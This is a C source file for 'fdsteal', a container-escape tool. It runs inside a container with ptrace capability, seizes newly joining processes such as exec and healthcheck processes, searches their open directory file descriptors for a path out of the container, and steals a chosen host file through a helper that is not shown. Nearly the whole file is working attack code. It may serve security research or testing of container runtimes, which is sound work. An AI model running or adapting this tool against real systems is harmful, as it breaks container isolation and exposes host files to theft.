/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Host fds reachable while a process joins the container.
 *
 *   fdsteal HOSTFILE
 *       Runs in a container with CAP_SYS_PTRACE, as its first process. Watch
 *       /proc for processes that appear in the container (an exec's or a
 *       healthcheck's process while the runtime still prepares it, or the
 *       init of a container that joins this pid namespace); stop each at
 *       once with PTRACE_SEIZE + PTRACE_INTERRUPT, look through its open fds
 *       for a directory, climb out of it and steal HOSTFILE; detach.
 *       Prints one line per process examined; runs until killed.
 */
#define _GNU_SOURCE
#include "escape.h"

#include <dirent.h>
#include <errno.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>

#define MAX_PID 4194304

static unsigned char seen[MAX_PID / 8 + 1];

static bool first_sight(int pid)
{
        if (pid <= 0 || pid >= MAX_PID)
                return false;
        bool old = seen[pid / 8] & (1u << (pid % 8));
        seen[pid / 8] |= (unsigned char)(1u << (pid % 8));
        return !old;
}

/* Every directory among pid's fds: try to climb out of it. */
static int try_fds(int pid, const char *host_path)
{
        char p[64];
        snprintf(p, sizeof(p), "/proc/%d/fd", pid);
        DIR *d = opendir(p);
        if (d == NULL) {
                printf("pid %d: cannot list its fds: %s\n", pid, strerror(errno));
                return 0;
        }
        int hits = 0, dirs = 0;
        struct dirent *e;
        while ((e = readdir(d)) != NULL) {
                if (e->d_name[0] == '.')
                        continue;
                char fp[320], how[320];
                snprintf(fp, sizeof(fp), "/proc/%d/fd/%s", pid, e->d_name);
                int fd = open(fp, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
                if (fd < 0)
                        continue;
                dirs++;
                snprintf(how, sizeof(how), "fd %s of pid %d", e->d_name, pid);
                hits += escape_steal(fd, host_path, how);
                close(fd);
        }
        closedir(d);
        printf("pid %d: %d directory fds, %d led out\n", pid, dirs, hits);
        return hits;
}

int main(int argc, char **argv)
{
        setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc != 2) {
                fprintf(stderr, "usage: fdsteal HOSTFILE\n");
                return 2;
        }
        int self = getpid();
        /* What runs already is not what we are after. */
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d)) != NULL)
                first_sight(atoi(e->d_name));
        if (d)
                closedir(d);
        first_sight(self);
        printf("watching\n");
        for (;;) {
                d = opendir("/proc");
                if (d == NULL)
                        return 1;
                while ((e = readdir(d)) != NULL) {
                        int pid = atoi(e->d_name);
                        if (!first_sight(pid))
                                continue;
                        bool traced = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
                        if (traced) {
                                ptrace(PTRACE_INTERRUPT, pid, 0, 0);
                                waitpid(pid, NULL, __WALL);
                        }
                        if (!traced)
                                printf("pid %d: cannot seize: %s\n", pid, strerror(errno));
                        try_fds(pid, argv[1]);
                        if (traced)
                                ptrace(PTRACE_DETACH, pid, 0, 0);
                }
                closedir(d);
        }
}
